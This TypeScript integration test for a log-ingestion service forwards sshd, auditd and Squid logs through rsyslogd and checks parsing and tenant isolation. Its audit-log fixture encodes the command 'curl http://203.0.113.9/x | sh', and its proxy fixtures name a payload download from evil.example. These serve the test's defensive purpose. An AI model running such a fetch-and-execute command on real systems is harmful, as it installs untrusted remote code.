// rsyslog from Debian watching a file (imfile) and forwarding it over TCP with octet counting
// (omfwd TCP_Framing="octet-counted") to the syslog receiver; the template adds the SD token.
import { spawn } from "node:child_process";
import type { ChildProcess } from "node:child_process";
import { appendFileSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { testDatabaseUrls } from "@vigil/db/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Harness } from "./testing/harness";
import { startHarness } from "./testing/harness";
import { rowsWith, startSyslog, waitFor } from "./testing/syslog";
import type { RunningSyslogReceiver } from "./syslog/receiver";
import { syslogTcpReceiver } from "./syslog/receiver";

let h: Harness;
let a: { tenantId: string; token: string };
let b: { tenantId: string; token: string };
let receiver: RunningSyslogReceiver;
let rsyslogd: ChildProcess | undefined;
const dir = mkdtempSync(join(tmpdir(), "vigil-rsyslog-"));
const watched = join(dir, "app.log");
const auditLog = join(dir, "audit.log");
const squidLog = join(dir, "squid-access.log");
let rsyslogOutput = "";

function rsyslogConf(port: number, token: string): string {
  return `
global(workDirectory="${dir}")
module(load="imfile")
template(name="vigil" type="string" string="<%PRI%>1 %TIMESTAMP:::date-rfc3339% %HOSTNAME% %APP-NAME% %PROCID% %MSGID% [vigil@32473 token=\\"${token}\\"] %msg%")
ruleset(name="forward") {
  action(type="omfwd" target="127.0.0.1" port="${port}" protocol="tcp" TCP_Framing="octet-counted" template="vigil")
}
input(type="imfile" File="${watched}" Tag="sshd" Facility="auth" Severity="info" ruleset="forward")
input(type="imfile" File="${auditLog}" Tag="auditd" Facility="local6" Severity="info" ruleset="forward")
input(type="imfile" File="${squidLog}" Tag="squid" Facility="local4" Severity="info" ruleset="forward")
`;
}

beforeAll(async () => {
  h = await startHarness(testDatabaseUrls(process.env));
  a = await h.createTenant();
  b = await h.createTenant();
  receiver = await startSyslog(h, syslogTcpReceiver);
  writeFileSync(watched, "");
  writeFileSync(auditLog, "");
  writeFileSync(squidLog, "");
  const conf = join(dir, "rsyslog.conf");
  writeFileSync(conf, rsyslogConf(receiver.port, a.token));
  rsyslogd = spawn("rsyslogd", ["-n", "-f", conf, "-i", join(dir, "rsyslogd.pid")], { stdio: ["ignore", "pipe", "pipe"] });
  rsyslogd.stdout?.on("data", (d: Buffer) => (rsyslogOutput += d.toString()));
  rsyslogd.stderr?.on("data", (d: Buffer) => (rsyslogOutput += d.toString()));
});
afterAll(async () => {
  if (rsyslogd && rsyslogd.exitCode === null) {
    const exited = new Promise((resolve) => rsyslogd?.once("exit", resolve));
    rsyslogd.kill("SIGTERM");
    await exited;
  }
  await receiver?.close();
  await h?.close();
});

describe("rsyslog forwarding a file over TCP (octet-counted)", () => {
  it("stores every appended line for the token's tenant, parsed, and nothing for another tenant", async () => {
    const lines = [
      "Failed password for invalid user admin from 203.0.113.50 port 50001 ssh2 rsyslog-1",
      "Failed password for invalid user admin from 203.0.113.50 port 50002 ssh2 rsyslog-2",
      "Accepted publickey for deploy from 198.51.100.20 port 50003 ssh2 rsyslog-3",
    ];
    appendFileSync(watched, `${lines.join("\n")}\n`);
    const rows = await waitFor(() => rowsWith(h, "rsyslog-"), (r) => r.length >= 3, 20_000);
    expect(rows.length, `rsyslogd said: ${rsyslogOutput}`).toBe(3);
    expect(rows.every((r) => r.tenant_id === a.tenantId && r.receiver === "syslog")).toBe(true);
    expect(rows.every((r) => !r.raw.includes(a.token))).toBe(true);
    const accepted = rows.find((r) => r.raw.includes("rsyslog-3"));
    expect(accepted?.doc).toMatchObject({ user: { name: "deploy" }, source: { ip: "198.51.100.20" }, event: { outcome: "success" } });
    expect(receiver.stats.dropped).toEqual({ noToken: 0, invalidToken: 0, overload: 0, rejected: 0, shutdown: 0 });
    const ofB = await h.db.withTenant(b.tenantId, (tx) => tx.event.findMany({ where: { raw: { contains: "rsyslog-" } } }));
    expect(ofB).toEqual([]);
  });

  it("forwards /var/log/audit/audit.log as rsyslog's imfile reads it: audit records parsed, hex arguments decoded", async () => {
    // `sh -c "curl http://203.0.113.9/x | sh"`: auditd writes the argument with spaces in hex.
    const hexArg = Buffer.from("curl http://203.0.113.9/x | sh").toString("hex").toUpperCase();
    const lines = [
      `type=SYSCALL msg=audit(1795946000.101:9001): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=10 pid=11 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4 comm="sh" exe="/usr/bin/dash" key="rsyslog-audit"`,
      `type=EXECVE msg=audit(1795946000.101:9001): argc=3 a0="sh" a1="-c" a2=${hexArg}`,
      `type=PROCTITLE msg=audit(1795946000.101:9001): proctitle=${Buffer.from("sh\0-c\0rsyslog-audit").toString("hex").toUpperCase()}`,
    ];
    appendFileSync(auditLog, `${lines.join("\n")}\n`);
    const rows = await waitFor(() => rowsWith(h, "msg=audit(1795946000.101:9001)"), (r) => r.length >= 3, 20_000);
    expect(rows.length, `rsyslogd said: ${rsyslogOutput}`).toBe(3);
    const byType = new Map(rows.map((r) => [(r.doc as { original: { type: string } }).original.type, r.doc]));
    expect(byType.get("SYSCALL")).toMatchObject({ event: { module: "auditd", category: "process" }, original: { SYSCALL: "execve", euid: "33", key: "rsyslog-audit", appname: "auditd" }, process: { executable: "/usr/bin/dash", pid: 11 } });
    expect(byType.get("EXECVE")).toMatchObject({ original: { a2: "curl http://203.0.113.9/x | sh" }, process: { command_line: "sh -c curl http://203.0.113.9/x | sh" } });
    expect(byType.get("PROCTITLE")).toMatchObject({ process: { command_line: "sh -c rsyslog-audit" } });
    expect(rows.every((r) => r.tenant_id === a.tenantId && r.receiver === "syslog")).toBe(true);
    const ofB = await h.db.withTenant(b.tenantId, (tx) => tx.event.findMany({ where: { raw: { contains: "msg=audit(" } } }));
    expect(ofB).toEqual([]);
  });

  it("forwards Squid's native access.log: proxy events with the URL's domain, for Sigma's proxy rules", async () => {
    const lines = [
      "1795946000.123    150 10.0.0.5 TCP_MISS/200 4512 GET http://api.telegram.org/bot1/sendMessage?rsyslog-squid=1 - HIER_DIRECT/149.154.167.220 application/json",
      "1795946002.789      3 10.0.0.9 TCP_DENIED/403 3945 GET http://evil.example/dl/payload.exe?rsyslog-squid=2 - HIER_NONE/- text/html",
    ];
    appendFileSync(squidLog, `${lines.join("\n")}\n`);
    const rows = await waitFor(() => rowsWith(h, "rsyslog-squid="), (r) => r.length >= 2, 20_000);
    expect(rows.length, `rsyslogd said: ${rsyslogOutput}`).toBe(2);
    const denied = rows.find((r) => r.raw.includes("TCP_DENIED"));
    expect(denied?.doc).toMatchObject({ event: { module: "proxy", type: "denied" }, vigil: { format: "squid" }, url: { domain: "evil.example", extension: "exe" }, source: { ip: "10.0.0.9" } });
    expect(rows.every((r) => r.tenant_id === a.tenantId)).toBe(true);
    expect(await h.db.withTenant(b.tenantId, (tx) => tx.event.findMany({ where: { raw: { contains: "rsyslog-squid=" } } }))).toEqual([]);
  });
});
